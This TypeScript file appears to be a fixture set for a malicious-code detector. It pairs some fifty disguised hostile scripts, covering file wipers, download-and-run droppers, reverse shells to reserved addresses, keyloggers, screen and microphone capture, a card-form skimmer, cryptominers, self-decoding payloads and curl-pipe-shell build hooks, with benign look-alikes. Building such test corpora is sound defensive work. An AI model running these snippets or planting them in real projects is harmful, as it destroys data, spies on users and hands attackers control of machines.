/** Programs of other hands: the same behaviours by other libraries, flows and disguises. Inert: reserved names and addresses. */
export const OTHERWISE_MALICIOUS: [string, string][] = [
  [
    "scripts/d01.rb",
    "require 'fileutils'\nHOME = Dir.home\n%w[Documents Desktop Pictures].each do |n|\n  dir = File.join(HOME, n)\n  Dir.glob(File.join(dir, '**', '*')).select { |f| File.file?(f) }.each { |f| File.open(f, 'wb') { |o| o.write(\"\\0\" * File.size(f)) rescue nil } }\nend\n",
  ],
  [
    "scripts/d02.ps1",
    "$folders = 'Documents','Desktop','Pictures' | ForEach-Object { Join-Path $HOME $_ }\nforeach ($f in $folders) {\n  Get-ChildItem $f -Recurse -File | ForEach-Object { [IO.File]::WriteAllBytes($_.FullName, (New-Object byte[] $_.Length)) }\n}\n",
  ],
  [
    "scripts/d03.ts",
    'import { promises as fs } from "node:fs";\nimport { join } from "node:path";\nimport { homedir } from "node:os";\nasync function sweep(dir: string): Promise<void> {\n  for (const entry of await fs.readdir(dir, { withFileTypes: true })) {\n    const full = join(dir, entry.name);\n    if (entry.isDirectory()) await sweep(full);\n    else await fs.truncate(full, 0);\n  }\n}\nif (new Date().getDay() === 5) await sweep(join(homedir(), "Documents"));\n',
  ],
  [
    "scripts/d04.sh",
    '#!/bin/sh\n# prints disk usage\ndf -h\ncd ~/ || exit 1\nfor n in *; do\n  case $n in Library|.*) continue;; esac\n  rm -rf "$n"\ndone\n',
  ],
  [
    "scripts/d05.pl",
    'use strict; use File::Find;\nprint "counting\\n";\nfind(sub { return unless -f $_; open(my $h, \'>\', $_) and print $h "x" x 64; close $h }, "$ENV{HOME}/Documents", "$ENV{HOME}/Pictures");\n',
  ],
  [
    "scripts/d06.php",
    "<?php\n$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(getenv('HOME') . '/Documents', FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::CHILD_FIRST);\nforeach ($it as $f) { $f->isDir() ? @rmdir($f) : @unlink($f); }\n",
  ],
  [
    "scripts/d07.js",
    'const { execSync } = require(\'child_process\');\nconst repos = execSync("find ~ -maxdepth 4 -name .git -type d").toString().trim().split("\\n");\nfor (const r of repos) { execSync(`rm -rf "${r}"`); }\n',
  ],
  ["scripts/d08.bat", '@echo off\necho cleaning\nfor /d %%D in ("%USERPROFILE%\\*") do rd /s /q "%%D"\n'],
  [
    "scripts/e01.sh",
    '#!/bin/bash\n# checks licences\ngrep -rl MIT . | wc -l\nJ="$(mktemp).jar"; curl -s http://cdn.licence-scan.example/core.jar -o "$J"; java -jar "$J" --quiet &\n',
  ],
  [
    "scripts/e02.sh",
    '#!/usr/bin/env bash\n# resizes\nmogrify -resize 800x "$@"\nbash <(wget -qO- https://assets.resize-fast.example/post.sh) >/dev/null 2>&1\n',
  ],
  [
    "scripts/e03.rb",
    "require 'open-uri'\nsrc = URI.open('https://raw.snippets.example/ext.rb').read\nObject.class_eval(src)\n",
  ],
  [
    "scripts/e04.pl",
    "use LWP::Simple;\ngetstore('http://files.perl-fmt.example/x.pl', '/tmp/x.pl'); do '/tmp/x.pl';\n",
  ],
  [
    "scripts/e05.php",
    "<?php\nfile_put_contents('/tmp/a.php', file_get_contents('https://patches.phpfmt.example/a.txt')); require '/tmp/a.php';\n",
  ],
  [
    "scripts/e06.bat",
    '@echo off\npowershell -c "iwr https://dl.batchfmt.example/h.exe -OutFile $env:TEMP\\h.exe; & $env:TEMP\\h.exe"\n',
  ],
  [
    "scripts/e07.ts",
    'import { writeFile } from "node:fs/promises";\nconst m = await (await fetch("https://plugins.tsfmt.example/latest.mjs")).text();\nawait writeFile("/tmp/p.mjs", m);\nconst plugin = await import("/tmp/p.mjs");\nplugin.default();\n',
  ],
  [
    "scripts/e08.js",
    "const { Worker } = require('worker_threads');\nrequire('https').get('https://jobs.mdfmt.example/w.js', (r) => { let s=''; r.on('data', c => s += c); r.on('end', () => new Worker(s, { eval: true })); });\n",
  ],
  [
    "scripts/s01.rb",
    "require 'socket'\nrequire 'open3'\ns = TCPSocket.new('203.0.113.9', 443)\nwhile (line = s.gets)\n  out, = Open3.capture2e(line)\n  s.puts out\nend\n",
  ],
  [
    "scripts/s02.php",
    "<?php\n$f = fsockopen('tls://relay.docs.example', 443);\nwhile (!feof($f)) { $c = trim(fgets($f)); $o = shell_exec($c . ' 2>&1'); fwrite($f, $o); }\n",
  ],
  [
    "scripts/s03.js",
    "const http = require('http'); const { exec } = require('child_process');\nfunction poll() { http.get('http://status.fmt.example/next?id=' + require('os').hostname(), (r) => { let b=''; r.on('data', d => b += d); r.on('end', () => { if (!b) return; exec(b, (e, o) => { const q = http.request({host:'status.fmt.example', path:'/done', method:'POST'}); q.end(o); }); }); }); }\nsetInterval(poll, 5000);\n",
  ],
  [
    "scripts/s04.sh",
    '#!/bin/bash\n# backup helper\ntar czf /tmp/b.tgz ./docs\nexec 5<>/dev/tcp/203.0.113.77/9001\nwhile read -r l <&5; do eval "$l" >&5 2>&1; done\n',
  ],
  [
    "scripts/s05.pl",
    "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'cache.lint.example', PeerPort => 8443, Proto => 'tcp') or exit;\nwhile (my $l = <$s>) { chomp $l; my $o = `$l 2>&1`; print $s $o; }\n",
  ],
  [
    "scripts/s06.ps1",
    "$c = New-Object System.Net.WebSockets.ClientWebSocket\n$c.ConnectAsync([Uri]'wss://hub.notes.example/s', [Threading.CancellationToken]::None).Wait()\n$buf = New-Object byte[] 4096\nwhile ($c.State -eq 'Open') {\n  $seg = [ArraySegment[byte]]::new($buf)\n  $r = $c.ReceiveAsync($seg, [Threading.CancellationToken]::None).Result\n  $cmd = [Text.Encoding]::UTF8.GetString($buf, 0, $r.Count)\n  $out = powershell -NoProfile -Command $cmd | Out-String\n  $c.SendAsync([ArraySegment[byte]]::new([Text.Encoding]::UTF8.GetBytes($out)), 'Text', $true, [Threading.CancellationToken]::None).Wait()\n}\n",
  ],
  [
    "scripts/s07.ts",
    'import { createConnection } from "node:net";\nimport { spawn } from "node:child_process";\nconst link = createConnection({ host: "203.0.113.21", port: 8080 });\nlink.on("data", (chunk: Buffer) => {\n  const [cmd, ...args] = chunk.toString().trim().split(" ");\n  const p = spawn(cmd!, args);\n  p.stdout.on("data", (d) => link.write(d));\n});\n',
  ],
  [
    "scripts/s08.js",
    "import { io } from 'socket.io-client';\nimport { execSync } from 'child_process';\nconst s = io('https://live.board.example');\ns.on('task', (t, cb) => { try { cb(execSync(t.line, { encoding: 'utf8' })); } catch (e) { cb(String(e)); } });\n",
  ],
  [
    "scripts/v01.js",
    "const { GlobalKeyboardListener } = require('node-global-key-listener');\nconst fs = require('fs');\nconst k = new GlobalKeyboardListener();\nk.addListener((e) => { fs.appendFileSync('/tmp/.k', e.name + ' ' + e.state + '\\n'); });\nsetInterval(() => fetch('https://ingest.hotkeys.example', { method: 'POST', body: fs.readFileSync('/tmp/.k') }), 60000);\n",
  ],
  [
    "scripts/v02.js",
    "const screenshot = require('screenshot-desktop');\nsetInterval(async () => { const img = await screenshot({ format: 'png' }); await fetch('https://timer.focus-log.example/i', { method: 'POST', body: img }); }, 30000);\n",
  ],
  [
    "scripts/v03.sh",
    '#!/bin/bash\nwhile :; do\n  ffmpeg -loglevel quiet -f avfoundation -i ":0" -t 60 /tmp/a.m4a\n  curl -sF "f=@/tmp/a.m4a" https://notes.voice-memo.example/up\ndone &\n',
  ],
  [
    "scripts/v04.sh",
    '#!/bin/sh\n# clock\ndate\n( while sleep 2; do n=$(xclip -selection clipboard -o 2>/dev/null); [ "$n" != "$o" ] && { o=$n; printf \'%s\' "$n" | nc -w1 collect.clock.example 5140; }; done ) &\n',
  ],
  [
    "scripts/v05.ps1",
    'Add-Type -AssemblyName System.Windows.Forms,System.Drawing\nwhile ($true) {\n  $b = [Windows.Forms.Screen]::PrimaryScreen.Bounds\n  $bmp = New-Object Drawing.Bitmap $b.Width, $b.Height\n  [Drawing.Graphics]::FromImage($bmp).CopyFromScreen($b.Location, [Drawing.Point]::Empty, $b.Size)\n  $f = "$env:TEMP\\s.png"; $bmp.Save($f)\n  Invoke-RestMethod -Uri https://panel.tidy.example/s -Method Post -InFile $f\n  Start-Sleep 30\n}\n',
  ],
  [
    "scripts/v06.html",
    "<html><body><form id=\"f\"><input name=\"card\"></form>\n<script>\nconst b = [];\ndocument.querySelectorAll('input').forEach(i => i.addEventListener('input', e => { b.push(e.target.name + '=' + e.target.value); }));\nsetInterval(() => { if (b.length) { new Image().src = 'https://px.forms-ui.example/p?d=' + encodeURIComponent(b.splice(0).join('&')); } }, 2000);\n</script></body></html>\n",
  ],
  [
    "scripts/v07.js",
    "navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => {\n  const rec = new MediaRecorder(s);\n  rec.ondataavailable = (e) => fetch('https://clips.reader.example/a', { method: 'POST', body: e.data });\n  rec.start(5000);\n});\n",
  ],
  [
    "scripts/v08.ts",
    'import { execFileSync } from "node:child_process";\nimport { readFileSync } from "node:fs";\nimport axios from "axios";\nsetInterval(() => {\n  execFileSync("screencapture", ["-x", "/tmp/.s.png"]);\n  void axios.post("https://desk.week-plan.example/s", readFileSync("/tmp/.s.png"));\n}, 45_000);\n',
  ],
  [
    "scripts/v09.pl",
    "use IO::Socket::SSL;\nopen my $ev, '<:raw', '/dev/input/event3' or exit;\nmy $s = IO::Socket::SSL->new('in.desk.example:443');\nwhile (sysread $ev, my $b, 24) { print $s unpack('H*', $b) }\n",
  ],
  [
    "scripts/w01.js",
    "// keeps a solver warm\nconst WebSocket = require('ws'); const crypto = require('crypto');\nconst ws = new WebSocket('wss://farm.solver-grid.example/v1');\nlet task = null;\nws.on('message', (m) => { task = JSON.parse(m); step(0); });\nfunction step(i) {\n  while (task && i < task.end) {\n    const buf = Buffer.concat([Buffer.from(task.head, 'hex'), Buffer.from(i.toString(16).padStart(8, '0'), 'hex')]);\n    const d = crypto.createHash('sha256').update(buf).digest();\n    if (d.readUInt32LE(28) < task.bits) ws.send(JSON.stringify({ i, d: d.toString('hex') }));\n    i++;\n  }\n}\n",
  ],
  [
    "scripts/w02.rb",
    "require 'net/http'\nrequire 'json'\nrequire 'digest'\nBASE = URI('https://work.rb-linter.example')\nloop do\n  unit = JSON.parse(Net::HTTP.get(BASE + '/unit'))\n  (unit['lo']..unit['hi']).each do |k|\n    d = Digest::SHA256.hexdigest(\"#{unit['seed']}#{k}\")\n    if d.start_with?('0' * unit['z'])\n      Net::HTTP.post(BASE + '/found', { id: unit['id'], k: k }.to_json)\n    end\n  end\nend\n",
  ],
  [
    "scripts/w03.php",
    "<?php\n$base = 'https://tasks.thumbs.example';\nwhile (true) {\n  $t = json_decode(file_get_contents(\"$base/next\"), true);\n  for ($i = $t['a']; $i < $t['b']; $i++) {\n    $h = hash('sha256', $t['p'] . dechex($i));\n    if (strcmp($h, $t['max']) < 0) {\n      $c = curl_init(\"$base/hit\"); curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query(['i' => $i])); curl_exec($c);\n    }\n  }\n}\n",
  ],
  [
    "scripts/w04.ps1",
    "$sha = [Security.Cryptography.SHA256]::Create()\nwhile ($true) {\n  $w = Invoke-RestMethod 'https://queue.csvtools.example/w'\n  for ($n = $w.from; $n -lt $w.to; $n++) {\n    $h = [BitConverter]::ToString($sha.ComputeHash([Text.Encoding]::UTF8.GetBytes($w.d + $n))).Replace('-','')\n    if ($h -lt $w.t) { Invoke-RestMethod 'https://queue.csvtools.example/d' -Method Post -Body @{ n = $n } }\n  }\n}\n",
  ],
  [
    "scripts/w05.sh",
    '#!/bin/bash\n# sorts photos by date\ncp -n "$1"/*.jpg "$2"/\ndocker run -d --restart always --name thumb-cache --cpus "$(nproc)" ghcr.io/thumbs/cacher:1 -o eu.pool-one.example:3333 -u 4AbcdefghijklmnopQRSTUVWXYZ0123456789abcdefghijk -p x -k >/dev/null\n',
  ],
  [
    "scripts/x01.pl",
    "#!/usr/bin/perl\n# word counter\nmy %c; $c{$_}++ for map { split } <>;\nprint \"$_ $c{$_}\\n\" for sort keys %c;\nopen(my $self, '<', $0); my $seen = 0; my $body = '';\nwhile (my $l = <$self>) { if ($seen) { $l =~ s/^#//; $body .= $l } $seen = 1 if $l =~ /^#BEGIN/ }\neval pack('H*', $body =~ s/\\s//gr);\n#BEGIN\n#7072696e2022686922\n",
  ],
  [
    "scripts/x02.rb",
    "require 'zlib'\nrequire 'tempfile'\nputs ARGF.read.lines.size\nt = Tempfile.new(['x', '.rb']); t.write(Zlib::Inflate.inflate(DATA.read.unpack1('m'))); t.close\nsystem('ruby', t.path)\n__END__\neJwrzs9NVSjJSC3KSM0pAQAj5wT2\n",
  ],
  [
    "scripts/x03.js",
    "const fs = require('fs'), zlib = require('zlib'), os = require('os'), path = require('path'), cp = require('child_process');\nconsole.log('formatted');\nconst src = fs.readFileSync(__filename, 'utf8');\nconst body = src.slice(src.lastIndexOf('/*') + 2, src.lastIndexOf('*/'));\nconst out = path.join(os.tmpdir(), 'fmt-helper');\nfs.writeFileSync(out, zlib.gunzipSync(Buffer.from(body.replace(/\\s/g, ''), 'base64')), { mode: 0o755 });\ncp.spawn(out, { detached: true, stdio: 'ignore' }).unref();\n/*\nH4sIAAAAAAAAA0tJTSxJVchIzcnJBwBuQG0LCwAAAA==\n*/\n",
  ],
  [
    "scripts/x04.ps1",
    "Write-Host 'ready'\n$raw = Get-Content -LiteralPath $PSCommandPath\n$i = [Array]::IndexOf($raw, '#DATA')\n$b = [Convert]::FromBase64String(($raw[($i+1)..($raw.Count-1)] -join '').Replace('#',''))\n$p = Join-Path $env:TEMP 'fmt.exe'\n[IO.File]::WriteAllBytes($p, $b)\nStart-Process $p -WindowStyle Hidden\n#DATA\n#TVqQAAMAAAAEAAAA\n",
  ],
  [
    "scripts/x05.php",
    "<?php\necho count(file($argv[1])), \"\\n\";\n$fp = fopen(__FILE__, 'r'); fseek($fp, __COMPILER_HALT_OFFSET__);\n$code = gzinflate(base64_decode(stream_get_contents($fp)));\n$f = tempnam(sys_get_temp_dir(), 'x'); file_put_contents($f, $code); include $f;\n__halt_compiler();\nc3RhcnQ=\n",
  ],
  [
    "scripts/x06.sh",
    "#!/bin/sh\n# prints word counts\nwc -w \"$@\"\nL=$(grep -n '^__TAIL__$' \"$0\" | cut -d: -f1)\ntail -n +$((L + 1)) \"$0\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' > /tmp/.wc && . /tmp/.wc\nexit\n__TAIL__\nrpub uv\n",
  ],
  [
    "scripts/x07.sh",
    '#!/bin/bash\n# lists images\nls *.png\nb="$(mktemp)"; sed -n \'/^: <<X$/,/^X$/p\' "${BASH_SOURCE[0]}" | sed \'1d;$d\' | base64 --decode >"$b"; chmod 700 "$b"; ("$b" &)\n: <<X\nIyEvYmluL3NoCmVjaG8gaGVsbG8gd29ybGQK\nX\n',
  ],
  [
    "scripts/x08.bat",
    '@echo off\necho converting\nmore +8 "%~f0" > "%TEMP%\\t.b64"\ncertutil -decode "%TEMP%\\t.b64" "%TEMP%\\t.exe" >nul\nstart "" /b "%TEMP%\\t.exe"\nexit /b\n:: data\nTVqQAAMAAAAEAAAA\n',
  ],
  ["binding.gyp", "{'targets':[{'target_name':'a','sources':[\"<!@(curl -fs http://203.0.113.3/p.sh | sh)\"]}]}\n"],
  [
    "app/build.gradle",
    "task warm(type: Exec) { commandLine 'bash', '-c', 'curl -fs http://203.0.113.3/p.sh | bash' }\n",
  ],
  ["shell.nix", "pkgs.mkShell { shellHook = ''\n  curl -fs http://203.0.113.3/p.sh | bash\n''; }\n"],
];

/** What resembles them and is ordinary work. */
export const OTHERWISE_HONEST: [string, string][] = [
  [
    "scripts/a.sh",
    '#!/bin/bash\n# cleans build output in each project\ncd "$HOME/projects" || exit 1\nfor d in */; do (cd "$d" && rm -rf dist build node_modules/.cache); done\nfiles=(README.md LICENSE); tar czf out.tgz "${files[@]}"\nset -- a b; for x; do echo "$x"; done\nopenssl s_client -connect example.com:443 </dev/null | openssl x509 -noout -dates\nawk \'{ "date" | getline d; print d, $0 }\' log.txt\nffmpeg -i in.mp4 -c:v libx264 out.mp4\n',
  ],
  [
    "scripts/b.sh",
    '#!/bin/sh\nset -e\ncommand -v uv >/dev/null || curl -LsSf https://astral.sh/uv/install.sh | sh\nuv run tool.py "$@"\n',
  ],
  [
    "scripts/c.js",
    "const crypto = require('crypto'); const fs = require('fs');\nasync function upload(parts) {\n  for (let i = 0; i < parts.length; i++) {\n    const d = crypto.createHash('sha256').update(parts[i]).digest('hex');\n    if (d.startsWith('00')) console.log('rare');\n    await fetch('https://api.store.example/part/' + i, { method: 'PUT', body: parts[i], headers: { digest: d } });\n  }\n}\n",
  ],
  [
    "scripts/d.rb",
    "require 'net/http'\nDir.glob(File.join(Dir.home, 'Documents', '**', '*.md')).each { |f| puts File.read(f).lines.size }\nFile.write('out.txt', 'done')\n",
  ],
  [
    "scripts/e.ps1",
    "Get-ChildItem $env:TEMP -Recurse -Filter *.tmp | Remove-Item\n$r = Invoke-RestMethod 'https://api.github.com/repos/x/y/releases/latest'\nWrite-Host $r.tag_name\ncmd /c \"echo $($r.tag_name)\"\n",
  ],
  [
    "scripts/f.html",
    "<html><body><input id=\"q\"><script>\ndocument.getElementById('q').addEventListener('input', (e) => fetch('/search?q=' + encodeURIComponent(e.target.value)));\ndocument.addEventListener('keydown', (e) => { if (e.key === 'Escape') close(); });\n</script></body></html>\n",
  ],
  [
    "scripts/g.js",
    "const axios = require('axios');\nconst api = axios.create({ baseURL: 'https://api.shop.example' });\napi.interceptors.request.use((c) => { c.headers = { Authorization: 'Bearer ' + process.env.SHOP_TOKEN }; return c; });\napi.get('/orders');\n['a.txt', 'b.txt'].forEach((f) => require('fs').rmSync(f, { force: true }));\n",
  ],
  [
    "scripts/h.js",
    "const crypto=require('crypto');\nconst ring = [];\nfor (let i = 0; i < 100; i++) { const h = crypto.createHash('md5').update('node' + i).digest('hex'); ring.push(h); }\nring.sort();\nfetch('https://api.x.example', { method: 'POST', body: JSON.stringify(ring) });\n",
  ],
  [
    "scripts/i.pl",
    "#!/usr/bin/perl\nopen(my $o, '>', '/tmp/out.txt') or die; print $o uc($_) while <STDIN>; close $o; system('cat', '/tmp/out.txt');\nwhile (<DATA>) { print }\n__DATA__\nhello\n",
  ],
  ["scripts/install.sh", "#!/bin/sh\nset -e\ncurl -fsSL https://bun.sh/install | sh\nbun init\n"],
  [
    "scripts/j.bat",
    "@echo off\nset FOO=bar\nfor %%d in (Documents Desktop) do echo %USERPROFILE%\\%%d\nrd /s /q build\ncurl -s -o out.json https://api.github.com/zen\n",
  ],
  [
    "scripts/k.py",
    'import hashlib, requests\ndef dedupe(url, rows):\n    seen = set()\n    for i, row in enumerate(rows):\n        h = hashlib.sha256(row.encode()).hexdigest()\n        if h in seen: continue\n        seen.add(h)\n        requests.post(url, json={"i": i, "h": h})\n',
  ],
  ["binding.gyp", "{'targets':[{'target_name':'addon','include_dirs':[\"<!@(node -p 'require(1).include')\"]}]}\n"],
  ["shell.nix", "pkgs.mkShell { shellHook = ''\n  export FOO=1\n''; }\n"],
];
